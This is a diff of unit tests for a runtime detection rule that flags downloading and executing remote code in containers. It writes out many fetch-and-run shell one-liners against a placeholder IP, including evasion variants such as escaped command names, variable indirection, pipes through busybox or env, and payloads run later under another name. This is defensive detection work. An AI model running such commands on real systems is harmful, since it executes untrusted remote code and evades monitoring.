@@ -38,3 +38,60 @@ describe('rule download-and-execute', () => {
     assert.equal(downloadAndExecute.match(tmpNoDownload, contextAfter([started], tmpNoDownload)), null);
   });
 });
+
+describe('rule download-and-execute: review finding 11', () => {
+  let pid = 7100;
+  const ex = (filename: string, argv: string[], timeNs?: bigint) => execEvent({ pid: ++pid, nsPid: pid - 7000, filename, argv, containerId: CONTAINER_ID, timeNs });
+  const line = (cmd: string) => ex('/bin/sh', ['sh', '-c', cmd]);
+  const after = (events: ReturnType<typeof ex>[], image?: string) => {
+    const cur = events.at(-1)!;
+    const withImage = (e: ReturnType<typeof ex>) => (image ? { ...e, container: { ...e.container!, image } } : e);
+    return downloadAndExecute.match(withImage(cur), contextAfter([started, ...events.slice(0, -1)].map(withImage), withImage(cur)));
+  };
+
+  test('should trigger: pipes through busybox, tee and env, substitutions, variables, escapes, a downloaded file run by another name', () => {
+    for (const cmd of [
+      'wget -qO- http://198.51.100.7/x | busybox sh',
+      'curl -s http://198.51.100.7/x | tee /tmp/log | sh',
+      'curl -s http://198.51.100.7/x | env sh',
+      'curl -s http://198.51.100.7/x | "sh"',
+      'c\\url -s http://198.51.100.7/x | sh',
+      'C=curl; $C -s http://198.51.100.7/x | sh',
+      'sh -c "$(curl -fsSL http://198.51.100.7/i.sh)"',
+      'bash <(curl -s http://198.51.100.7/i.sh)',
+      'wget http://198.51.100.7/x -O /opt/x; chmod +x /opt/x; sh /opt/x',
+      'curl -o /opt/x http://198.51.100.7/x && install -m 755 /opt/x /usr/bin/x && x',
+      'python3 -c "import urllib.request as u;print(u.urlopen(\'http://198.51.100.7/x\').read().decode())" | sh',
+    ])
+      assert.ok(after([line(cmd)]), cmd);
+  });
+
+  test('should trigger: the file a download wrote run later, however named, after any number of other execs', () => {
+    const filler = Array.from({ length: 40 }, () => ex('/bin/true', ['true']));
+    const cases: ReturnType<typeof ex>[][] = [
+      [ex('/usr/bin/curl', ['curl', '-sLo', 'kube', 'http://198.51.100.7/dl']), ex('/usr/local/bin/kube', ['kube'])],
+      [ex('/usr/bin/wget', ['wget', '-qO', '/opt/a', 'http://198.51.100.7/b']), ex('/opt/a', ['/opt/a'])],
+      [ex('/usr/bin/curl', ['curl', '-s', '-o', '/tmp/y', 'http://198.51.100.7/q']), ex('./x', ['./x'])],
+      [ex('/usr/bin/curl', ['curl', '-s', '-o', '/run/lock/x', 'http://198.51.100.7/q']), ex('/run/lock/x', ['/run/lock/x'])],
+      [ex('/usr/bin/curl', ['curl', '-s', 'http://198.51.100.7/q']), ex('/dev/fd/3', ['[kworker]'])],
+      [ex('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']), ...filler, ex('/tmp/x', ['/tmp/x'])],
+      [ex('/usr/bin/python3', ['python3', '-c', 'import urllib.request as u;u.urlretrieve("http://198.51.100.7/x","/tmp/x")']), ex('/tmp/x', ['/tmp/x'])],
+      [line('curl -s http://198.51.100.7/payload > /opt/svc'), ex('/usr/bin/curl', ['curl', '-s', 'http://198.51.100.7/payload']), ex('/opt/svc', ['/opt/svc'])],
+    ];
+    for (const events of cases) assert.ok(after(events), events.map((e) => e.exec!.argv.join(' ')).join(' → '));
+  });
+
+  test('should not trigger: health probes and curl to standard output, a file other than the one downloaded, builds, downloads past the window', () => {
+    const cases: ReturnType<typeof ex>[][] = [
+      [ex('/usr/bin/curl', ['curl', '-fsS', 'http://localhost:8080/healthz']), ex('/usr/local/go/bin/go', ['go', 'test', './...']), ex('/tmp/go-build123/b001/pkg.test', ['/tmp/go-build123/b001/pkg.test', '-test.v'])],
+      [ex('/usr/bin/curl', ['curl', '-f', 'http://localhost/health']), ex('/usr/local/bin/health', ['health'])],
+      [ex('/usr/bin/curl', ['curl', '-s', 'https://api.example.com/v1/status']), ex('/tmp/build/test-runner', ['test-runner'])],
+      [ex('/usr/bin/curl', ['curl', '-o', '/etc/app/app', 'http://198.51.100.7/app']), ex('/usr/local/bin/app', ['app'])],
+      [ex('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x'], BigInt(Date.now() - 20 * 60_000) * 1_000_000n), ex('/tmp/x', ['/tmp/x'])],
+    ];
+    for (const events of cases) assert.equal(after(events), null, events.map((e) => e.exec!.argv.join(' ')).join(' → '));
+    const install = line('curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 && chmod 700 get_helm.sh && ./get_helm.sh');
+    assert.ok(after([install]), 'an installer run in a workload is what the rule is for');
+    assert.equal(after([install], 'jenkins/inbound-agent:latest'), null, 'build images are not judged');
+  });
+});
